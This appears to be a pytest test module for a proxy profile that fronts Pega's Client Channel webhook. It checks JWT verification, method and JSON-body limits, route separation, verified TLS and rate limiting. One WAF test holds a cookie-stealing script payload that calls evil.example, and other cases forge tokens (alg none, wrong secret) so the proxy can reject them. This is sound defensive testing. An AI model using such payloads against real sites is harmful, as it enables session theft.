"""etc/pega-client-channel.ini end to end: a real ``twistd -n chatproxy`` on the
shipped profile, with only test-only values (ports, certificate, the two
upstream addresses and their CA, the secret file) layered over it, between a
stand-in integration layer and a stand-in Digital Messaging Service that
verifies tokens the way Pega does.

Checked against Pega's "Setting up the IVA for Client Channel API" page and
its payload requirements: the public https webhook passes only POSTs with a
JSON body and a valid HS256 token (iss = the Connection ID, at most 5 minutes
old), within a size limit and a rate limit; the return path signs a fresh
token for each request and reaches the Digital Messaging webhook over
verified TLS only.
"""

from __future__ import annotations

import base64
import json
import os
import re
import secrets
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import jwt
import pytest

from conftest import PKI, ProxyProcess, ProxyStarter, free_port
from profile_peers import (
    Client,
    Response,
    StandIn,
    header,
    header_values,
    option_list,
    profile_path,
    read_profile,
    run_check,
    wait_until,
    write_overlay,
)

PROFILE = read_profile("pega-client-channel")
CONNECTION_ID = PROFILE["filter:pega-token"]["issuer"]  # as shipped: not a test-only value
WEBHOOK = PROFILE["route:client-webhook"]["path"]
RETURN = PROFILE["route:to-digital-messaging"]["path"]
DMS_PATH = PROFILE["route:to-digital-messaging"]["rewrite_path"]
HOST = "webhook.example.com"
SECRET = secrets.token_urlsafe(48).encode()  # the connection's JWT Secret, for this test run
OTHER_SECRET = secrets.token_urlsafe(48).encode()
PAYLOAD = {"type": "text", "customerId": "c-1001", "text": "Your parcel leaves the warehouse today."}


def token(secret: bytes = SECRET, alg: str = "HS256", age: int = 0, drop: tuple[str, ...] = (),
          **claims: Any) -> str:
    """A token as Digital Messaging Service makes it: HS256, iss = the
    Connection ID, iat ``age`` seconds ago, exp five minutes after iat."""
    iat = int(time.time()) - age
    body: dict[str, Any] = {"iss": CONNECTION_ID, "iat": iat, "exp": iat + 300} | claims
    for name in drop:
        body.pop(name)
    return jwt.encode(body, secret, algorithm=alg)


def unsigned(**claims: Any) -> str:
    """An ``alg: none`` token with valid claims."""
    def b64(data: dict[str, Any]) -> str:
        return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()
    now = int(time.time())
    return f"{b64({'alg': 'none', 'typ': 'JWT'})}.{b64({'iss': CONNECTION_ID, 'iat': now, 'exp': now + 300})}."


def dms_responder(record: dict[str, Any]) -> tuple[int, dict[str, str], bytes]:
    """The stand-in Digital Messaging Service: 202 for a request whose token
    verifies (HS256, the secret, iss = the Connection ID, iat and exp), else 401."""
    values = header_values(record, "Authorization")
    try:
        assert len(values) == 1 and values[0].startswith("Bearer ")
        jwt.decode(values[0][7:], SECRET, algorithms=["HS256"], issuer=CONNECTION_ID,
                   options={"require": ["iss", "iat", "exp"]})
    except (AssertionError, jwt.InvalidTokenError):
        return 401, {"Content-Type": "text/plain"}, b"invalid token\n"
    return 202, {"Content-Type": "application/json"}, b'{"status":"accepted"}'


@dataclass
class Env:
    """The proxy on the shipped profile, the integration layer and Pega's side."""

    pki: PKI
    port: int
    local_port: int
    integration: StandIn
    dms: StandIn
    process: ProxyProcess
    overlay: Path

    def public(self) -> Client:
        """Digital Messaging Service calling the public webhook."""
        return Client(self.port, HOST, self.pki.client_context())

    def local(self) -> Client:
        """The integration layer calling the local return-path listener."""
        return Client(self.local_port, f"127.0.0.1:{self.local_port}")

    def webhook(self, authorization: str | None, body: bytes | None = None, method: str = "POST",
                content_type: str | None = "application/json", target: str = WEBHOOK) -> Response:
        headers = {}
        if authorization is not None:
            headers["Authorization"] = authorization
        if content_type is not None:
            headers["Content-Type"] = content_type
        if body is None and method in ("POST", "PUT"):
            body = json.dumps(PAYLOAD).encode()
        return self.public().request(method, target, headers, body)


def overlay_values(directory: Path, pki: PKI, port: int, local_port: int, integration_url: str, dms_url: str,
                   secret_file: Path | None) -> Path:
    """The test-only values layered over the shipped profile."""
    secret = "" if secret_file is None else f"""
        [filter:pega-token]
        secret_file = {secret_file}

        [filter:sign-for-pega]
        secret_file = {secret_file}
        """
    return write_overlay(directory, "test-values.ini", f"""\
        # Test-only values layered over etc/pega-client-channel.ini.
        [listen:public]
        endpoint = tcp:{port}:interface=127.0.0.1
        certificate = {pki.cert}
        key = {pki.key}

        [listen:integration]
        endpoint = tcp:{local_port}:interface=127.0.0.1

        [upstream:integration]
        servers = {integration_url}

        [upstream:digital-messaging]
        servers = {dms_url}
        ca = {pki.ca}
        """ + secret)


def secret_file(directory: Path) -> Path:
    path = directory / "pega-client-channel.jwt"
    path.write_bytes(SECRET + b"\n")
    path.chmod(0o600)
    return path


@pytest.fixture(scope="module")
def env(pki: PKI, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    """One proxy on etc/pega-client-channel.ini for the module."""
    directory = tmp_path_factory.mktemp("pega-client-channel")
    integration = StandIn()
    dms = StandIn(responder=dms_responder, certificate=(pki.cert, pki.key))
    starter = ProxyStarter(directory)
    try:
        port, local_port = free_port(), free_port()
        overlay = overlay_values(directory, pki, port, local_port, integration.url, dms.url, secret_file(directory))
        process = starter.start(port=port, configs=[profile_path("pega-client-channel"), overlay])
        yield Env(pki, port, local_port, integration, dms, process, overlay)
    finally:
        starter.stop_all()
        integration.stop()
        dms.stop()


# ---------------------------------------------------------------------------
# The shipped file


def test_shipped_profile_uses_one_connection_both_ways() -> None:
    """Both directions use the same connection: the verifying and the signing
    filter have the same Connection ID and secret source; tokens are HS256
    and live at most 5 minutes; each route takes only its own listener."""
    verify, sign = PROFILE["filter:pega-token"], PROFILE["filter:sign-for-pega"]
    assert verify["use"] == "jwt" and sign["use"] == "jwt_sign"
    assert verify["issuer"] == sign["issuer"] == CONNECTION_ID
    assert verify["secret_file"] == sign["secret_file"] and verify["secret_file"].startswith("/")
    assert verify["algorithms"] == sign["algorithm"] == "HS256"
    assert verify["max_age"] == sign["lifetime"] == "5m"
    webhook, back = PROFILE["route:client-webhook"], PROFILE["route:to-digital-messaging"]
    assert webhook["listeners"] == "public" and back["listeners"] == "integration"
    assert option_list(webhook["filters"]) == ["webhook-rate", "webhook-limits", "pega-token",
                                               "webhook-waf"]
    assert option_list(back["filters"])[-1] == "sign-for-pega"
    assert PROFILE["upstream:digital-messaging"]["servers"].startswith("https://")
    assert "verify" not in PROFILE["upstream:digital-messaging"]  # verified (the default)
    assert PROFILE["listen:public"]["tls"] == "yes"


def test_check_accepts_the_profile_and_prints_its_routes(env: Env) -> None:
    """``python -m chatproxy check`` accepts the shipped file (with the test's
    certificate and secret layered over it), prints both routes, and never
    the secret."""
    result = run_check([profile_path("pega-client-channel"), env.overlay])
    assert result.returncode == 0, result.stdout + result.stderr
    routes = [line.strip() for line in result.stdout.splitlines() if line.startswith("  [route:")]
    assert routes == [
        f"[route:client-webhook] path {WEBHOOK}, listeners public, "
        "filters webhook-rate,webhook-limits,pega-token,webhook-waf -> upstream integration",
        f"[route:to-digital-messaging] path {RETURN}, listeners integration, rewrite to {DMS_PATH}, "
        "filters outbound-limits,sign-for-pega -> upstream digital-messaging",
    ]
    assert SECRET.decode() not in result.stdout + result.stderr


def test_secret_from_an_environment_variable_instead(env: Env, tmp_path: Path) -> None:
    """The documented alternative: with ``secret_file = ...`` replaced by
    ``secret_env = PEGA_CLIENT_CHANNEL_JWT_SECRET`` in both filters, the
    profile loads when the variable is set, and names the option when not."""
    text = profile_path("pega-client-channel").read_text()
    assert "secret_env = PEGA_CLIENT_CHANNEL_JWT_SECRET" in text  # as the file's comment says
    variant, count = re.subn(r"(?m)^secret_file = .*$", "secret_env = PEGA_CLIENT_CHANNEL_JWT_SECRET", text)
    assert count == 2
    path = tmp_path / "pega-client-channel-env.ini"
    path.write_text(variant)
    overlay = overlay_values(tmp_path, env.pki, 8443, 8080, "http://127.0.0.1:9", "https://localhost:9", None)
    environment = dict(os.environ, PEGA_CLIENT_CHANNEL_JWT_SECRET=SECRET.decode())
    assert run_check([path, overlay], environment).returncode == 0
    environment.pop("PEGA_CLIENT_CHANNEL_JWT_SECRET")
    result = run_check([path, overlay], environment)
    assert result.returncode == 2 and "[filter:pega-token] secret_env" in result.stderr


# ---------------------------------------------------------------------------
# The public webhook


def test_valid_webhook_call_reaches_the_integration_layer(env: Env) -> None:
    """A POST with a JSON body and a valid token reaches the integration layer
    with its path, query, body and token, as https (X-Forwarded-Proto), and
    the integration layer's answer comes back."""
    before = len(env.integration.requests)
    bearer = f"Bearer {token()}"
    response = env.public().request("POST", WEBHOOK + "?trace=1",
                                    {"Authorization": bearer, "Content-Type": "application/json; charset=utf-8"},
                                    json.dumps(PAYLOAD).encode())
    assert response.status == 200, response.body
    assert len(env.integration.requests) == before + 1
    record = env.integration.requests[-1]
    assert record["method"] == "POST" and record["path"] == WEBHOOK + "?trace=1"
    assert json.loads(record["body"]) == PAYLOAD
    assert header(record, "Authorization") == bearer
    assert header(record, "Content-Type") == "application/json; charset=utf-8"  # passed on as sent
    assert header(record, "X-Forwarded-Proto") == "https"
    assert header(record, "X-Forwarded-For") == "127.0.0.1"
    assert header(record, "Host") == HOST


JWT_CASES = [
    ("valid", lambda: f"Bearer {token()}", 200, None),
    ("valid, 4 minutes old", lambda: f"Bearer {token(age=240)}", 200, None),
    ("expired", lambda: f"Bearer {token(age=600)}", 401, "token expired"),
    ("older than 5 minutes, exp still ahead", lambda: f"Bearer {token(age=420, exp=int(time.time()) + 600)}",
     401, "token expired"),
    ("no iat", lambda: f"Bearer {token(drop=('iat',))}", 401, "token not accepted"),
    ("issued in the future", lambda: f"Bearer {token(age=-600)}", 401, "token not yet valid"),
    ("wrong issuer", lambda: f"Bearer {token(iss='another-connection-id')}", 401, "token not accepted"),
    ("no issuer", lambda: f"Bearer {token(drop=('iss',))}", 401, "token not accepted"),
    ("wrong signature", lambda: f"Bearer {token(secret=OTHER_SECRET)}", 401, "token not accepted"),
    ("alg none", lambda: f"Bearer {unsigned()}", 401, "token not accepted"),
    ("HS512 with the right secret", lambda: f"Bearer {token(alg='HS512')}", 401, "token not accepted"),
    ("an audience claim", lambda: f"Bearer {token(aud='someone-else')}", 401, "token not accepted"),
    ("malformed", lambda: "Bearer not.a.token", 401, "malformed token"),
    ("missing", lambda: None, 401, "bearer token required"),
    ("Basic scheme", lambda: "Basic " + base64.b64encode(b"pega:secret").decode(), 401, "bearer token required"),
]


@pytest.mark.parametrize("case, make, status, reason", JWT_CASES, ids=[c[0] for c in JWT_CASES])
def test_webhook_token_cases(env: Env, case: str, make: Any, status: int, reason: str | None) -> None:
    """Only a token signed with HS256 and the connection's secret, issued by
    the Connection ID, at most 5 minutes old (plus 30 s leeway) passes; every
    other case gets 401 with a Bearer challenge and never reaches the
    integration layer."""
    before = len(env.integration.requests)
    response = env.webhook(make())
    assert response.status == status, (response.status, response.body)
    assert len(env.integration.requests) == before + (1 if status == 200 else 0)
    if reason is not None:
        assert response.body.decode().strip() == reason
        assert response.headers["www-authenticate"].startswith('Bearer realm="chatproxy"')


@pytest.mark.parametrize("method", ["GET", "PUT", "DELETE", "PATCH", "OPTIONS"])
def test_webhook_takes_only_post(env: Env, method: str) -> None:
    """Any method but POST gets 405 with ``Allow: POST``, even with a valid
    token, and never reaches the integration layer."""
    before = len(env.integration.requests)
    body = json.dumps(PAYLOAD).encode() if method in ("PUT", "PATCH") else None
    response = env.public().request(method, WEBHOOK, {"Authorization": f"Bearer {token()}",
                                                      "Content-Type": "application/json"}, body)
    assert response.status == 405 and response.headers["allow"] == "POST"
    assert response.headers["strict-transport-security"] == "max-age=63072000"  # the listener's, on every answer
    assert len(env.integration.requests) == before


@pytest.mark.parametrize("content_type, body, status", [
    ("application/json", b'{"type": "text", "text": "unterminated', 400),
    ("application/json", b"type=text&text=hello", 400),
    ("text/plain", b"hello, this is not JSON", 415),
    ("application/x-www-form-urlencoded", b"type=text&text=hello", 415),
    ("application/octet-stream", b"\x00\x01\x02 binary", 415),
    (None, json.dumps(PAYLOAD).encode(), 415),
    ("text/plain", json.dumps(PAYLOAD).encode(), 415),
    ("application/json", b"", 400),
    ("application/json; charset=utf-8", json.dumps(PAYLOAD).encode(), 200),
], ids=["broken JSON", "form data as JSON", "text", "form", "binary", "no Content-Type", "JSON labelled text",
        "empty body", "JSON"])
def test_webhook_takes_only_json_bodies(env: Env, content_type: str | None, body: bytes, status: int) -> None:
    """With a valid token, only a non-empty application/json body that parses passes and reaches
    the integration layer: another Content-Type gets 415, no body 400, a body that is not JSON 400
    (the waf's ModSecurity rule 200002)."""
    before = len(env.integration.requests)
    response = env.webhook(f"Bearer {token()}", body, content_type=content_type)
    assert response.status == status, (response.status, response.body)
    assert len(env.integration.requests) == before + (1 if status == 200 else 0)
    if status == 200:
        assert header(env.integration.requests[-1], "Content-Type").startswith("application/json")


def test_webhook_body_size_limit(env: Env) -> None:
    """A JSON body of 256 KiB passes whole (and is inspected whole); one
    over 256 KiB gets 413 before anything is forwarded."""
    before = len(env.integration.requests)
    def body_of(size: int) -> bytes:
        empty = len(json.dumps(dict(PAYLOAD, text="")))
        text = ("Order summary: " + "item 4711, qty 1; " * 15000)[: size - empty]
        return json.dumps(dict(PAYLOAD, text=text)).encode()

    big = body_of(256 * 1024)
    assert len(big) == 256 * 1024
    response = env.webhook(f"Bearer {token()}", big)
    assert response.status == 200, response.body
    assert env.integration.requests[-1]["body"] == big.decode()
    too_big = body_of(256 * 1024 + 1)
    assert len(too_big) == 256 * 1024 + 1
    assert env.webhook(f"Bearer {token()}", too_big).status == 413
    assert len(env.integration.requests) == before + 1


def test_webhook_waf_refuses_attacks_from_a_valid_token(env: Env) -> None:
    """Even with a valid token, a JSON payload carrying a script is refused
    (403) before it reaches the integration layer."""
    before = len(env.integration.requests)
    attack = json.dumps(dict(PAYLOAD, text="<script>fetch('https://evil.example/'+document.cookie)</script>"))
    assert env.webhook(f"Bearer {token()}", attack.encode()).status == 403
    assert len(env.integration.requests) == before


def test_each_route_only_on_its_listener(env: Env) -> None:
    """The public listener does not serve the return path (the signing route),
    the local listener does not serve the webhook, and other paths get 404."""
    before = (len(env.integration.requests), len(env.dms.requests))
    json_headers = {"Content-Type": "application/json"}
    assert env.public().request("POST", RETURN, json_headers, b"{}").status == 404
    assert env.public().request("POST", DMS_PATH, json_headers, b"{}").status == 404
    assert env.public().request("POST", "/", json_headers, b"{}").status == 404
    local = env.local()
    response = local.request("POST", WEBHOOK, dict(json_headers, Authorization=f"Bearer {token()}"), b"{}")
    assert response.status == 404
    assert local.request("POST", DMS_PATH, json_headers, b"{}").status == 404
    assert (len(env.integration.requests), len(env.dms.requests)) == before


# ---------------------------------------------------------------------------
# The return path


def test_return_path_signs_a_fresh_token_and_reaches_digital_messaging(env: Env) -> None:
    """The integration layer POSTs without the secret (here with a forged
    token of its own); Digital Messaging Service receives the request on its
    webhook path, query kept, with its own host name as Host, over verified
    TLS, with one freshly signed HS256 token (iss = the Connection ID,
    exp = iat + 5 minutes) in place of the forged one, and accepts it."""
    before = len(env.dms.requests)
    body = json.dumps({"type": "text", "customerId": "c-1001", "text": "Thanks, I got it!"}).encode()
    issued_after = int(time.time())
    response = env.local().request("POST", RETURN + "?messageId=m-1",
                                   {"Content-Type": "application/json", "Authorization": "Bearer forged"}, body)
    assert response.status == 202, response.body
    assert response.json() == {"status": "accepted"}
    assert len(env.dms.requests) == before + 1
    record = env.dms.requests[-1]
    assert record["method"] == "POST" and record["path"] == DMS_PATH + "?messageId=m-1"
    assert header(record, "Host") == f"localhost:{env.dms.port}"
    assert record["body"] == body.decode()
    (authorization,) = header_values(record, "Authorization")
    assert authorization.startswith("Bearer ") and authorization != "Bearer forged"
    assert jwt.get_unverified_header(authorization[7:])["alg"] == "HS256"
    claims = jwt.decode(authorization[7:], SECRET, algorithms=["HS256"], issuer=CONNECTION_ID)
    assert issued_after <= claims["iat"] <= int(time.time()) and claims["exp"] == claims["iat"] + 300
    # Each request gets its own token.
    time.sleep(1.05)
    assert env.local().request("POST", RETURN, {"Content-Type": "application/json"}, body).status == 202
    second = header(env.dms.requests[-1], "Authorization")
    assert second != authorization


def test_return_path_limits(env: Env) -> None:
    """The return path takes only POSTs with a Content-Type and a body of at
    most 256 KiB; anything else is refused before it reaches Pega."""
    before = len(env.dms.requests)
    local = env.local()
    assert local.request("GET", RETURN).status == 405
    assert local.request("POST", RETURN, {}, b"{}").status == 400
    assert local.request("POST", RETURN, {"Content-Type": "application/json"}, b"x" * (256 * 1024 + 1)).status == 413
    assert len(env.dms.requests) == before


def test_return_path_requires_a_verified_certificate(pki: PKI, proxy: ProxyStarter, tmp_path: Path) -> None:
    """If the server at the Digital Messaging address presents a certificate
    for another name, chatproxy answers 502 and sends it nothing (the TLS
    connection is verified, host name included)."""
    integration = StandIn()
    impostor = StandIn(responder=dms_responder, certificate=(pki.wrong_host_cert, pki.wrong_host_key))
    try:
        port, local_port = free_port(), free_port()
        overlay = overlay_values(tmp_path, pki, port, local_port, integration.url, impostor.url,
                                 secret_file(tmp_path))
        process = proxy.start(port=port, configs=[profile_path("pega-client-channel"), overlay])
        client = Client(local_port, f"127.0.0.1:{local_port}")
        response = client.request("POST", RETURN, {"Content-Type": "application/json"}, json.dumps(PAYLOAD).encode())
        assert response.status == 502
        assert impostor.requests == []
        wait_until(lambda: "DNSMismatch" in process.output(), message="no certificate mismatch logged")
    finally:
        integration.stop()
        impostor.stop()


# ---------------------------------------------------------------------------
# Rate limiting (last: it empties the bucket of 127.0.0.1)


def test_webhook_rate_limit(env: Env) -> None:
    """A client that keeps calling gets 429 with Retry-After once its burst
    (200) is spent, before its token is even looked at; while it keeps
    calling, valid calls are refused with 429 as well and only those let
    through by the refill (100 per second) reach the integration layer."""
    client = env.public()
    statuses = []
    for _ in range(1500):
        response = client.request("POST", WEBHOOK, {"Content-Type": "application/json"}, b"{}")
        statuses.append(response.status)
        if response.status == 429:
            break
    assert statuses[-1] == 429, f"no 429 after {len(statuses)} requests"
    assert set(statuses[:-1]) == {401} and len(statuses) > 150
    assert response.headers["retry-after"] == "1"
    assert response.body.strip() == b"rate limit exceeded"
    before = len(env.integration.requests)
    body = json.dumps(PAYLOAD).encode()
    valid: list[int] = []

    def call_valid(connection: Client) -> None:
        for _ in range(25):
            valid.append(connection.request("POST", WEBHOOK, {"Content-Type": "application/json",
                                                              "Authorization": f"Bearer {token()}"}, body).status)

    # Several connections at once: faster than the refill however slow this machine is.
    callers = [threading.Thread(target=call_valid, args=(connection,))
               for connection in [client] + [env.public() for _ in range(7)]]
    start = time.monotonic()
    for caller in callers:
        caller.start()
    for caller in callers:
        caller.join(60)
    elapsed = time.monotonic() - start
    assert len(valid) == 200 and set(valid) <= {200, 429} and 429 in valid, valid
    assert len(env.integration.requests) == before + valid.count(200)
    assert valid.count(200) <= 100 * elapsed + 10  # the refill, and the tokens left when the burst began
